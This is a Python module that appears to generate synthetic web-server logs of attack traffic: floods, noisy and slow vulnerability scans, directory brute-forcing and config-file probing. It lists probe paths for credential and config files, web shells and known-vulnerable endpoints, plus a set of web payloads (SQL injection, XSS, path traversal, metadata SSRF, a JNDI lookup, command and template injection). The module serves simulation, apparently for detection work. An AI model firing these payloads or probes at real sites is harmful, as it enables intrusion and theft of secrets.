"""The list of attacks, and those that want the site down or its weak spots: floods and scans."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from . import addresses, agents
from .sites import Hit, about, query
from .tape import Stage


@dataclass(frozen=True)
class Attack:
    """One way to attack."""

    play: Callable[[Stage], None]
    rate: str
    """How fast it is, in words: each family has the pace that it has in the world."""


ATTACKS: dict[str, Attack] = {}
"""By name."""


def attack(name: str, rate: str) -> Callable[[Callable[[Stage], None]], Callable[[Stage], None]]:
    """Puts a function into the list."""

    def put(play: Callable[[Stage], None]) -> Callable[[Stage], None]:
        ATTACKS[name] = Attack(play, rate)
        return play

    return put


def begin(stage: Stage) -> float:
    """When something short begins: somewhere in the middle of the log."""
    return stage.sometime(0.3, 0.6)


def page_roles(stage: Stage) -> list[str]:
    """What somebody who looks at the site sees first."""
    return [role for role in ("home", "list", "item", "search") if stage.site.has(role)]


@attack("flood-single", "one address, 80-200 a second for about a minute")
def flood_single(stage: Stage) -> None:
    dice = stage.dice
    agent = dice.choice(("", "python-requests/2.32.3", "ApacheBench/2.3", agents.forged(dice)))
    client = stage.attacker(agent, key="")
    role = dice.choice(page_roles(stage))
    number, rate = stage.site.popular(dice), dice.uniform(80, 200)
    at = begin(stage)
    until = at + dice.uniform(40, 75)
    while (at := at + dice.expovariate(rate)) < until:
        stage.send(at, client, stage.site.hit(dice, role, number, text="test"))


def _herd(stage: Stage, count: int, rate: float, seconds: float, shoot: Callable[[int], tuple[Hit, str]]) -> None:
    """Many sources that begin within some seconds of each other, together at a rate."""
    dice = stage.dice
    clients = [
        stage.attacker(agents.forged(dice), stage.residential() if dice.random() < 0.7 else "", number, "")
        for number in range(count)
    ]
    at = begin(stage)
    until, joined = at + seconds, at
    while (at := at + dice.expovariate(rate)) < until:
        # The order to attack reaches them one after the other.
        there = max(1, min(count, int(count * (at - joined + 1) / 15)))
        number = dice.randrange(there)
        hit, referer = shoot(number)
        stage.send(at, clients[number], hit, referer)


@attack("flood-one", "150-400 addresses, one route, together 70-130 a second for 90 seconds")
def flood_one(stage: Stage) -> None:
    dice, site = stage.dice, stage.site
    role, number = dice.choice(page_roles(stage)), site.popular(dice)
    _herd(stage, dice.randint(150, 400), dice.uniform(70, 130), 90,
          lambda _: (site.hit(dice, role, number, text="a"), ""))


@attack("flood-bust", "20-60 rented machines, a new query each time, together 50-90 a second for two minutes")
def flood_bust(stage: Stage) -> None:
    dice, site = stage.dice, stage.site
    role, number = dice.choice(page_roles(stage)), site.popular(dice)

    def shoot(_: int) -> tuple[Hit, str]:
        hit = site.hit(dice, role, number, text="a")
        mark = "&" if "?" in hit.path else "?"
        path = f"{hit.path}{mark}{dice.choice(('_', 'v', 'rnd', 'x'))}={dice.getrandbits(40):x}"
        # Nothing of it is in a cache, and the site becomes slow.
        return hit._replace(path=path, ms=hit.ms * 1.6), ""

    _herd(stage, dice.randint(20, 60), dice.uniform(50, 90), 120, shoot)


@attack("flood-mixed", "1000-2000 addresses over all pages, together 60-110 a second for two minutes")
def flood_mixed(stage: Stage) -> None:
    dice, site = stage.dice, stage.site
    roles = page_roles(stage)

    def shoot(_: int) -> tuple[Hit, str]:
        referer = dice.choice(("", "", "https://www.google.com/", stage.url("/")))
        return site.hit(dice, dice.choice(roles), page=dice.randint(1, 20)), referer

    _herd(stage, dice.randint(1000, 2000), dice.uniform(60, 110), 120, shoot)


@attack("flood-search", "30-60 addresses at the most expensive search, together 10-20 a second for five minutes")
def flood_search(stage: Stage) -> None:
    dice, site = stage.dice, stage.site
    role = "offers" if site.has("offers") else "search"

    def shoot(_: int) -> tuple[Hit, str]:
        hit = site.hit(dice, role, text=query(dice), page=dice.randint(1, 30))
        return hit._replace(ms=hit.ms * 2.5), stage.url("/search")

    _herd(stage, dice.randint(30, 60), dice.uniform(10, 20), 300, shoot)


# What everybody may ask for (robots.txt, sitemap.xml, security.txt) is not among them: it would be no abuse.
PROBES = (
    "/wp-login.php /xmlrpc.php /wp-admin/setup-config.php /wp-content/plugins/wp-file-manager/readme.txt "
    "/administrator/index.php /phpmyadmin/index.php /pma/ /adminer.php /.env /.env.production /.git/HEAD "
    "/.git/config /.svn/entries /.DS_Store /config.json /config.php.bak /backup.zip /db.sql /dump.sql.gz "
    "/server-status /actuator/env /actuator/heapdump /solr/admin/info/system /manager/html /jmx-console/ "
    "/console/ /cgi-bin/luci /cgi-bin/test-cgi /boaform/admin/formLogin /HNAP1/ /owa/auth/logon.aspx "
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /index.php?s=/Index/\\think\\app/invokefunction "
    "/?XDEBUG_SESSION_START=phpstorm /telescope/requests /_ignition/execute-solution /debug/default/view "
    "/api/v1/pods /v2/_catalog /druid/index.html /nacos/v1/auth/users /geoserver/web/ /remote/login "
    "/dana-na/auth/url_default/welcome.cgi /login.action /struts2-showcase/ /invoker/JMXInvokerServlet "
    "/shell.php /c99.php /wso.php /alfa.php /about.php /swagger-ui.html /api-docs /graphql /id_rsa "
    "/.aws/credentials /.ssh/id_rsa /wp-json/wp/v2/users"
).split()
PAYLOADS = (
    "?id=1%27%20OR%20%271%27=%271", "?q=%3Cscript%3Ealert(1)%3C/script%3E", "?file=../../../../etc/passwd",
    "?url=http://169.254.169.254/latest/meta-data/", "?page=php://filter/convert.base64-encode/resource=index",
    "?x=${jndi:ldap://203.0.113.9/a}", "?cmd=id", "?id=1+UNION+SELECT+NULL,NULL--", "?name={{7*7}}",
)
SCANNERS = (
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.0 zgrab/0.x",
)
NAMES = (
    "admin api app assets auth backup bin blog cache cgi config console css data db debug demo dev docs download "
    "errors export files forum help home html images img import includes install internal js lib log logs mail "
    "manage media member news old private public report root scripts search secret secure server shop site sql "
    "staff staging stats status storage system temp test tmp tools upload user users v1 v2 vendor web webmail wiki"
).split()


def _probe(stage: Stage, path: str) -> Hit:
    """What the site says to a probe: it is not there, or the server in front refuses it, or trips over it."""
    dice = stage.dice
    hit = stage.site.lost(dice, path, "POST" if dice.random() < 0.08 else "GET")
    luck = dice.random()
    if path.startswith("/."):
        # Many servers refuse hidden files before anything else sees them.
        return hit._replace(status=403, size=146, ms=1.0) if luck < 0.5 else hit
    if luck < 0.03:
        return hit._replace(status=400, size=150, ms=1.0)
    if luck < 0.05:
        return hit._replace(status=500, size=1200, ms=about(dice, 90, 0.4))
    return hit._replace(status=405, size=150) if luck < 0.08 and hit.method == "POST" else hit


def _weakness(stage: Stage) -> Hit:
    """A probe of a known file, or a payload in a parameter of a page that is there."""
    dice, site = stage.dice, stage.site
    if dice.random() < 0.25:
        hit = site.hit(dice, dice.choice(page_roles(stage)))
        path = hit.path.split("?")[0] + dice.choice(PAYLOADS)
        return hit._replace(path=path, status=dice.choices((200, 400, 403, 500), (6, 2, 2, 1))[0])
    path = dice.choice(PROBES)
    if dice.random() < 0.2:
        path = f"/{dice.choice(NAMES)}{path}"
    return _probe(stage, path)


@attack("scan-noisy", "one address, 10-40 a second for three minutes")
def scan_noisy(stage: Stage) -> None:
    dice = stage.dice
    client, rate = stage.attacker(dice.choice(SCANNERS), key=""), dice.uniform(10, 40)
    at = begin(stage)
    until = at + 180
    while (at := at + dice.expovariate(rate)) < until:
        stage.send(at, client, _weakness(stage))


@attack("scan-slow", "one address that calls itself a browser, one probe each 6-20 seconds to the end")
def scan_slow(stage: Stage) -> None:
    dice = stage.dice
    client = stage.attacker(agents.desktop(dice), stage.residential(), key="")
    at = stage.sometime(0.1, 0.2)
    while (at := at + dice.uniform(6, 20)) < stage.end:
        stage.send(at, client, _weakness(stage))


@attack("scan-distributed", "200-500 addresses with 1-4 probes each, spread over 15 minutes")
def scan_distributed(stage: Stage) -> None:
    dice = stage.dice
    first = begin(stage)
    for number in range(dice.randint(200, 500)):
        address = stage.residential() if dice.random() < 0.5 else ""
        client = stage.attacker(agents.forged(dice), address, number, "")
        at = first + dice.uniform(0, 900)
        for _ in range(dice.randint(1, 4)):
            stage.send(at, client, _weakness(stage))
            at += dice.uniform(0.4, 60)


@attack("dirbrute", "one address, a list of words at 30-80 a second for two minutes")
def dirbrute(stage: Stage) -> None:
    dice = stage.dice
    agent = dice.choice(("gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "feroxbuster/2.11.0", agents.desktop(dice)))
    client, rate = stage.attacker(agent, key=""), dice.uniform(30, 80)
    at = begin(stage)
    until = at + 120
    while (at := at + dice.expovariate(rate)) < until:
        ending = dice.choice(("", "", "/", ".php", ".bak", ".zip", ".old", "-old", str(dice.randrange(99))))
        name = dice.choice(NAMES) + ending
        path = f"/{name}" if dice.random() < 0.7 else f"/{dice.choice(NAMES)}/{name}"
        hit = stage.site.lost(dice, path)
        found = dice.random()
        if found < 0.01:
            hit = hit._replace(status=dice.choice((200, 301, 401, 403)))
        stage.send(at, client, hit)


@attack("config-probing", "10-30 rented machines, each 5-25 well-known files within seconds, over 20 minutes")
def config_probing(stage: Stage) -> None:
    dice = stage.dice
    likely = ("/.", "/config", "/backup", "/db", "/dump", "/id", "/actuator")
    files = [path for path in PROBES if path.startswith(likely)]
    files += [f"/{name}/.env" for name in NAMES[:25]]
    first = begin(stage)
    for number in range(dice.randint(10, 30)):
        agent = dice.choice((agents.forged(dice), dice.choice(agents.LIBRARIES), ""))
        client = stage.attacker(agent, "", number, "")
        at = first + dice.uniform(0, 1200)
        for path in dice.sample(files, dice.randint(5, 25)):
            stage.send(at, client, _probe(stage, path))
            at += dice.uniform(0.08, 0.7)
